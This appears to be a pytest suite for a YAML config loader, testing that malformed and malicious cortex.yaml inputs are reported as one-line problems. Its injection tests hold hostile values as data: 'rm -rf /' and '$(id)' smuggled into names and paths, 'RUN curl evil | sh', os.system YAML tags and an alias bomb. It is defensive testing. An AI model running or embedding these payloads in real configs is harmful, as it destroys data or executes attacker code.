"""Malformed configs: every problem is reported, each on one line saying where and what.

Each file in config_cases/ is one cortex.yaml; its `# expect:` header lines are exactly the
problems `load_project` must report, in order (line, API, field and message).
"""

from __future__ import annotations

import json
import random
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from config_fixtures import PYTHON_PREDICTOR, make_project
from cortex_build.cli import main
from cortex_build.config import load_project
from cortex_build.errors import UserError

CASES = sorted((Path(__file__).parent / "config_cases").glob("*.yaml"))
EXPECT = "# expect: "


def expected_problems(case: Path) -> list[str]:
    return [
        line[len(EXPECT) :] for line in case.read_text().splitlines() if line.startswith(EXPECT)
    ]


def reported_problems(project: Path, config_file: Path | None = None) -> list[str]:
    with pytest.raises(UserError) as caught:
        load_project(project, config_file)
    return [str(problem) for problem in caught.value.problems]


def test_the_corpus_is_large_enough() -> None:
    assert len(CASES) >= 40
    assert all(expected_problems(case) for case in CASES), "every case states what it expects"


@pytest.mark.parametrize("case", CASES, ids=[case.stem for case in CASES])
def test_malformed_config(case: Path, tmp_path: Path) -> None:
    project = make_project(tmp_path, case.read_text())
    reported = reported_problems(project)
    assert reported == expected_problems(case)
    assert all("\n" not in line and "\r" not in line for line in reported)


def test_every_problem_in_a_file_is_reported(tmp_path: Path) -> None:
    case = next(case for case in CASES if case.stem == "many_problems")
    reported = reported_problems(make_project(tmp_path, case.read_text()))
    assert len(reported) == 8
    # problems in both APIs, of every sort: name, type, unknown key, range, cross-field, env, cpu
    assert {line.split(": ")[1] for line in reported} == {"api #1", "second"}
    assert any("did you mean" in line for line in reported)
    assert any(
        "min_replicas cannot be greater than max_replicas (5 > 2)" in line for line in reported
    )


def test_cli_reports_problems_one_per_line_with_exit_code_2(tmp_path: Path) -> None:
    case = next(case for case in CASES if case.stem == "many_problems")
    project = make_project(tmp_path, case.read_text())
    result = CliRunner().invoke(main, ["validate", str(project)])
    assert result.exit_code == 2
    assert result.stderr.splitlines() == expected_problems(case)
    assert result.stdout == ""
    assert "Traceback" not in result.output


def test_installed_command_exits_2_without_traceback(tmp_path: Path) -> None:
    project = make_project(tmp_path, "- name: iris\n  predictor:\n    type: pyton\n")
    completed = subprocess.run(
        [sys.executable, "-m", "cortex_build.cli", "validate", str(project)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert completed.returncode == 2, completed.stderr
    assert completed.stderr.splitlines() == [
        "cortex.yaml:2: iris: predictor.path: must be provided (the predictor's Python file, "
        "relative to the project folder)",
        'cortex.yaml:3: iris: predictor.type: invalid value (got "pyton", must be "python", '
        '"tensorflow", or "onnx")',
    ]
    assert "Traceback" not in completed.stderr


def test_config_named_with_c_is_shown_as_given(tmp_path: Path) -> None:
    make_project(
        tmp_path,
        "- name: iris\n  predictor:\n    type: python\n    path: nope.py\n",
        name="prod.yaml",
    )
    reported = reported_problems(tmp_path, Path("prod.yaml"))
    assert reported == [
        'prod.yaml:4: iris: predictor.path: "nope.py" does not exist (expected a file in the '
        "project folder)"
    ]


def test_missing_config_file(tmp_path: Path) -> None:
    assert reported_problems(tmp_path) == [
        "cortex.yaml: file not found in the project folder (name another file with -c FILE)"
    ]
    assert reported_problems(tmp_path, Path("prod.yaml")) == ["prod.yaml: file not found"]


def test_missing_project_folder(tmp_path: Path) -> None:
    assert reported_problems(tmp_path / "nowhere") == [
        f'cortex.yaml: the project folder "{tmp_path / "nowhere"}" does not exist'
    ]


# -- injection ---------------------------------------------------------------------------------


def test_yaml_tags_are_never_constructed(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    config = (
        "- name: iris\n"
        "  predictor:\n"
        "    type: python\n"
        "    path: predictor.py\n"
        "    config:\n"
        f'      a: !!python/object/apply:os.system ["touch {marker}"]\n'
        f'      b: !!python/object/new:subprocess.Popen [["touch", "{marker}"]]\n'
    )
    reported = reported_problems(make_project(tmp_path, config))
    assert not marker.exists()
    assert reported == [
        'cortex.yaml:6: the YAML tag "!!python/object/apply:os.system" is not supported '
        "(plain values only)",
        'cortex.yaml:7: the YAML tag "!!python/object/new:subprocess.Popen" is not supported '
        "(plain values only)",
    ]


@pytest.mark.parametrize(
    "name",
    [
        "a; rm -rf /",
        "x\nRUN evil",
        "$(id)",
        "`id`",
        "iris\r\nX-Injected: 1",
        "iris'",
        "ïris",
        "-iris",
        "iris-",
        "../iris",
        "iris name",
    ],
)
def test_api_names_that_could_break_out_are_refused(name: str, tmp_path: Path) -> None:
    config = f"- name: {_yaml_str(name)}\n  predictor:\n    type: python\n    path: predictor.py\n"
    reported = reported_problems(make_project(tmp_path, config))
    assert len(reported) == 1
    assert reported[0].startswith("cortex.yaml:1: api #1: name: must contain only lowercase")
    assert "\n" not in reported[0] and "\r" not in reported[0]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("image", "python:3.11\nRUN curl evil | sh"),
        ("image", "python:3.11 && rm -rf /"),
        ("image", "$(id)/image:latest"),
        ("tensorflow_serving_image", "tensorflow/serving:2.3.0;id"),
        ("log_level", "info\nRUN evil"),
        ("python_path", "../../"),
        ("shm_size", "1Gi; rm -rf /"),
    ],
)
def test_predictor_values_that_could_break_out_are_refused(
    field: str, value: str, tmp_path: Path
) -> None:
    config = (
        "- name: iris\n  kind: RealtimeAPI\n  predictor:\n    type: tensorflow\n"
        "    path: tf_predictor.py\n    models:\n      path: models/iris\n"
        f"    {field}: {_yaml_str(value)}\n"
    )
    reported = reported_problems(make_project(tmp_path, config))
    assert len(reported) == 1
    assert reported[0].startswith(f"cortex.yaml:8: iris: predictor.{field}: ")
    assert "\n" not in reported[0]


@pytest.mark.parametrize(
    "endpoint", ["/a b", "/x;rm", "/$(id)", "/a\nb", "/../admin", "//evil.example.com", "/a?b=1"]
)
def test_endpoints_that_could_break_out_are_refused(endpoint: str, tmp_path: Path) -> None:
    config = (
        f"- name: iris\n  endpoint: {_yaml_str(endpoint)}\n  predictor:\n"
        "    type: python\n    path: predictor.py\n"
    )
    reported = reported_problems(make_project(tmp_path, config))
    assert len(reported) == 1
    assert reported[0].startswith("cortex.yaml:2: iris: endpoint: must be a URL path")


def test_env_values_with_quotes_and_newlines_stay_data(tmp_path: Path) -> None:
    """Values are data (the renderers quote them); only names are restricted."""
    config = (
        "- name: iris\n  predictor:\n    type: python\n    path: predictor.py\n    env:\n"
        '      GREETING: "it\'s \\"quoted\\"\\nRUN evil $(id)"\n'
        "      RETRIES: 3\n      DEBUG: true\n"
    )
    project = load_project(make_project(tmp_path, config))
    assert project.apis[0].predictor.env == {
        "GREETING": 'it\'s "quoted"\nRUN evil $(id)',
        "RETRIES": "3",
        "DEBUG": "true",
    }


def test_alias_bomb_is_refused_not_expanded(tmp_path: Path) -> None:
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]
    config = (
        "- name: iris\n  predictor:\n    type: python\n    path: predictor.py\n    config:\n"
        + "".join(f"      {level}\n" for level in levels)
    )
    reported = reported_problems(make_project(tmp_path, config))
    assert reported == [
        "cortex.yaml:5: iris: predictor.config: more than 100000 values once aliases are expanded"
    ]


def test_predictor_file_is_parsed_not_imported(tmp_path: Path) -> None:
    marker = tmp_path / "imported"
    make_project(tmp_path, "- name: iris\n  predictor:\n    type: python\n    path: p.py\n")
    (tmp_path / "p.py").write_text(f"open({str(marker)!r}, 'w')\n" + PYTHON_PREDICTOR)
    load_project(tmp_path)
    assert not marker.exists()


def _yaml_str(value: str) -> str:
    """A double-quoted YAML scalar (JSON strings are valid YAML)."""
    return json.dumps(value)


def test_symbolic_link_out_of_the_project_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "predictor.py").write_text(PYTHON_PREDICTOR)
    project = make_project(
        tmp_path / "project", "- name: iris\n  predictor:\n    type: python\n    path: link.py\n"
    )
    (project / "link.py").symlink_to(outside / "predictor.py")
    assert reported_problems(project) == [
        'cortex.yaml:4: iris: predictor.path: must stay inside the project folder (got "link.py")'
    ]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("path", "p$(id).py"),
        ("path", "p;id.py"),
        ("path", "p id.py"),
        ("python_path", "src`id`"),
    ],
)
def test_local_paths_with_shell_syntax_are_refused_even_if_they_exist(
    field: str, value: str, tmp_path: Path
) -> None:
    lines = {"path": "predictor.py", field: _yaml_str(value)}
    config = "- name: iris\n  predictor:\n    type: python\n" + "".join(
        f"    {key}: {text}\n" for key, text in lines.items()
    )
    project = make_project(tmp_path, config)
    if field == "python_path":
        (project / value).mkdir()
    else:
        (project / value).write_text(PYTHON_PREDICTOR)
    reported = reported_problems(project)
    assert len(reported) == 1
    assert f"iris: predictor.{field}: must be a path of letters, digits" in reported[0]


@pytest.mark.parametrize(
    "address", ["s3://bucket/$(id)", "https://example.com/a b", 's3://bucket/"x"', "s3://b/`id`"]
)
def test_remote_model_addresses_with_shell_syntax_are_refused(address: str, tmp_path: Path) -> None:
    config = (
        "- name: iris\n  kind: RealtimeAPI\n  predictor:\n    type: onnx\n"
        f"    path: onnx_predictor.py\n    models:\n      path: {_yaml_str(address)}\n"
    )
    reported = reported_problems(make_project(tmp_path, config))
    assert len(reported) == 1
    assert reported[0].startswith("cortex.yaml:7: iris: predictor.models.path: must be a local")


def test_mangled_configs_give_problems_never_exceptions(tmp_path: Path) -> None:
    """Deterministic mutations of the corpus: whatever the text, the loader reports problems
    (one line each) or succeeds; it never raises anything else."""
    rng = random.Random(20191101)
    seeds = [case.read_text() for case in CASES]
    # and a valid file that needs no project files (APIs given as containers), so that some
    # mutations load
    seeds.append((Path(__file__).parents[2] / "examples/v0.42-containers/cortex.yaml").read_text())
    tokens = [
        "null",
        "[]",
        "{}",
        "-1",
        "0",
        "1.5",
        "true",
        '"x"',
        "*a",
        "&a x",
        "1e400",
        ".nan",
        "s3://x",
        "../x",
        "_cortex_default",
        "[1, {a: b}]",
        "2020-01-01",
    ]
    make_project(tmp_path, "")
    outcomes = {"problems": 0, "loaded": 0}
    for _ in range(300):
        lines = rng.choice(seeds).splitlines()
        index = rng.randrange(len(lines))
        key, colon, _ = lines[index].partition(":")
        if colon and rng.random() < 0.6:
            lines[index] = f"{key}: {rng.choice(tokens)}"
        else:
            lines.insert(index, lines[rng.randrange(len(lines))])
        (tmp_path / "cortex.yaml").write_text("\n".join(lines) + "\n")
        try:
            load_project(tmp_path)
        except UserError as error:
            assert all("\n" not in str(problem) for problem in error.problems)
            outcomes["problems"] += 1
        else:
            outcomes["loaded"] += 1
    # both paths were exercised: the property above was checked on many reports
    assert outcomes["problems"] >= 50 and outcomes["loaded"] > 0, outcomes


def test_model_dir_sub_folders_must_be_model_names(tmp_path: Path) -> None:
    config = (
        "- name: iris\n  kind: RealtimeAPI\n  predictor:\n    type: tensorflow\n"
        "    path: tf_predictor.py\n    models:\n      dir: models\n"
    )
    project = make_project(tmp_path, config)
    (project / "models" / "$(id)").mkdir()
    (project / "models" / "_cortex_default").mkdir()
    assert reported_problems(project) == [
        f'cortex.yaml:7: iris: predictor.models.dir: sub-folder "{name}" cannot be a model name '
        "(letters, digits, '-', '_' or '.', starting with a letter or digit, not _cortex_default)"
        for name in ("$(id)", "_cortex_default")
    ]


def test_model_links_to_hidden_files_are_refused(tmp_path: Path) -> None:
    """Model folders are copied with links followed: a link to .env (or into a hidden folder)
    would put its bytes in the image. Links to visible files, as model caches use, are fine."""
    config = (
        "- name: iris\n  kind: RealtimeAPI\n  predictor:\n    type: onnx\n"
        "    path: onnx_predictor.py\n    models:\n      paths:\n"
        "        - name: a\n          path: env.onnx\n"
        "        - name: b\n          path: linked\n"
        "        - name: c\n          path: cached\n"
    )
    project = make_project(tmp_path / "project", config)
    (project / ".env").write_text("TOKEN=secret\n")
    (project / "env.onnx").symlink_to(".env")
    (project / "linked").mkdir()
    (project / "linked" / "model.onnx").symlink_to("../.env")
    (project / ".cache" / "blobs").mkdir(parents=True)
    (project / ".cache" / "blobs" / "m").write_bytes(b"onnx")
    (project / ".cache" / "snapshot").mkdir()
    (project / ".cache" / "snapshot" / "model.onnx").symlink_to("../blobs/m")
    (project / "cached").symlink_to(".cache/snapshot")
    assert reported_problems(project) == [
        'cortex.yaml:9: iris: predictor.models.paths[0].path: "env.onnx": leads to .env, a hidden '
        "file or folder; hidden files (.env among them) never go into an image",
        'cortex.yaml:11: iris: predictor.models.paths[1].path: "linked": linked/model.onnx is a '
        "symlink to .env, a hidden file; hidden files (.env among them) never go into an image",
    ]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "class Predictor:\n    pass\n",
            "handler.py defines no class Handler (expected for a handler: API)",
        ),
        (
            "class Handler:\n    def __init__(self, config):\n        pass\n",
            "class Handler in handler.py defines none of handle_post, handle_get, handle_put, "
            "handle_patch, handle_delete (one per HTTP verb it answers)",
        ),
        (
            "class Handler:\n    def handle_post(self, payload):\n        return payload\n",
            "class Handler in handler.py defines no load_model method (required with "
            "multi_model_reloading)",
        ),
    ],
)
def test_a_handler_file_must_define_class_handler_with_its_methods(
    tmp_path: Path, source: str, expected: str
) -> None:
    config = (
        "- name: echo\n  kind: RealtimeAPI\n  handler:\n    type: python\n    path: handler.py\n"
    )
    if "handle_post" in source:
        config += "    multi_model_reloading:\n      dir: models\n"
    project = make_project(tmp_path, config)
    (project / "handler.py").write_text(source)
    assert reported_problems(project) == [f"cortex.yaml:5: echo: handler.path: {expected}"]
